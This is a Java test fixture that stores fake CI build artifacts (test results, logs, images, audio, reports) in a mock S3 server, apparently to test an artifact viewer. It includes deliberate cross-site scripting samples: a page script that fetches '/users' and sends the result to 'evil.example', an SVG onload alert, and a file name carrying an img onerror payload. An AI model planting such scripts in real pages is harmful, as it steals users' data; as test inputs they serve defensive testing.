package dev.signalbox.sandbox.s3;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;
import javax.imageio.ImageIO;

/**
 * Build artifacts of Acme: build 414 of the API failed its end-to-end tests, build 415 passed, and
 * a page with a script was uploaded.
 */
public final class ArtifactFixture {

  private static final String FAILED = "acme/api/414/";
  private static final String PASSED = "acme/api/415/";
  private static final int LOG_LINES = 60_000;
  private static final int SAMPLE_RATE = 8_000;

  private ArtifactFixture() {}

  /** Stores the artifacts. */
  public static void store(S3Server s3) {
    put(s3, FAILED + "test-results/junit.xml", "text/xml", failedTests());
    put(s3, FAILED + "reports/e2e.html", "text/html", report());
    put(s3, FAILED + "reports/summary.json", "application/json", summary());
    put(s3, FAILED + "logs/server.log", "text/plain", log());
    s3.put(FAILED + "logs/browser.log", gzip(log()), "text/plain", "gzip");
    s3.put(FAILED + "screenshots/timetable.png", image(480, 300, true), "image/png", null);
    s3.put(FAILED + "recordings/timetable.webm", WebmVideo.create(60), "video/webm", null);
    s3.put(FAILED + "recordings/announcement.wav", sound(), "audio/wav", null);
    put(s3, PASSED + "reports/coverage 100%.html", "text/html", "<h1>100%</h1>\n");
    s3.put(PASSED + "screenshots/timetable.png", image(480, 300, false), "image/png", null);
    s3.put(PASSED + "dist/timetable-api-2.14.0.jar", new byte[400_000], "application/zip", null);
    put(s3, "acme/web/77/dist/index.html", "text/html", "<!DOCTYPE html><title>Acme</title>\n");
    put(s3, "acme/web/77/dist/app.js", "text/javascript", "document.title = 'Acme';\n");
    put(s3, "acme/web/78/report.html", "text/html", hostile());
    put(s3, "acme/web/78/logo.svg", "image/svg+xml", "<svg onload=\"alert(1)\"/>\n");
    put(s3, "acme/web/78/<img src=x onerror=alert(1)>.txt", "text/plain", "The name is markup.\n");
    for (int build = 300; build < 560; build++) {
      put(s3, "acme/nightly/" + build + "/result.txt", "text/plain", "passed\n");
    }
  }

  private static void put(S3Server s3, String key, String type, String text) {
    s3.put(key, text.getBytes(StandardCharsets.UTF_8), type, null);
  }

  private static String failedTests() {
    StringBuilder xml = new StringBuilder("<testsuites>\n<testsuite name=\"timetable\">\n");
    for (int i = 1; i <= 120; i++) {
      xml.append("<testcase classname=\"timetable.Departures\" name=\"shows departure ")
          .append(i)
          .append("\" time=\"0.")
          .append(100 + i)
          .append('"');
      if (i == 17 || i == 93) {
        xml.append("><failure message=\"expected platform 4, was 5\">at Departures:")
            .append(i)
            .append("</failure></testcase>\n");
      } else {
        xml.append("/>\n");
      }
    }
    return xml.append("</testsuite>\n</testsuites>\n").toString();
  }

  private static String report() {
    return "<!DOCTYPE html>\n<title>End-to-end tests</title>\n<h1>2 of 120 tests failed</h1>\n";
  }

  private static String summary() {
    return """
    {"build": 414, "branch": "platform-change", "tests": {"passed": 118, "failed": 2},
     "failures": ["shows departure 17", "shows departure 93"], "retried": false}
    """;
  }

  private static String log() {
    StringBuilder log = new StringBuilder();
    for (int i = 0; i < LOG_LINES; i++) {
      log.append(
          "2026-11-30T10:%02d:%02d INFO departure %d announced\n"
              .formatted(i / 60 % 60, i % 60, i));
    }
    return log.toString();
  }

  private static String hostile() {
    return "<script>fetch('/users').then(r => r.text()).then(t => location = '//evil.example/' + t)"
        + "</script>\n";
  }

  private static byte[] image(int width, int height, boolean failed) {
    BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    Graphics2D graphics = image.createGraphics();
    graphics.setColor(new Color(0x0E131B));
    graphics.fillRect(0, 0, width, height);
    for (int row = 0; row < 8; row++) {
      graphics.setColor(failed && row == 4 ? Color.RED : Color.ORANGE);
      graphics.fillRect(20, 20 + row * 34, width - 40 - row * 20, 20);
    }
    graphics.dispose();
    ByteArrayOutputStream png = new ByteArrayOutputStream();
    try {
      ImageIO.write(image, "png", png);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return png.toByteArray();
  }

  /** Two seconds of two tones, as a WAV file. */
  private static byte[] sound() {
    int samples = 2 * SAMPLE_RATE;
    ByteBuffer wav = ByteBuffer.allocate(44 + samples).order(ByteOrder.LITTLE_ENDIAN);
    wav.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(36 + samples);
    wav.put("WAVEfmt ".getBytes(StandardCharsets.US_ASCII)).putInt(16);
    wav.putShort((short) 1).putShort((short) 1).putInt(SAMPLE_RATE).putInt(SAMPLE_RATE);
    wav.putShort((short) 1).putShort((short) 8);
    wav.put("data".getBytes(StandardCharsets.US_ASCII)).putInt(samples);
    for (int i = 0; i < samples; i++) {
      double frequency = i < SAMPLE_RATE ? 660 : 440;
      wav.put((byte) (128 + 60 * Math.sin(2 * Math.PI * frequency * i / SAMPLE_RATE)));
    }
    return wav.array();
  }

  private static byte[] gzip(String text) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return packed.toByteArray();
  }
}
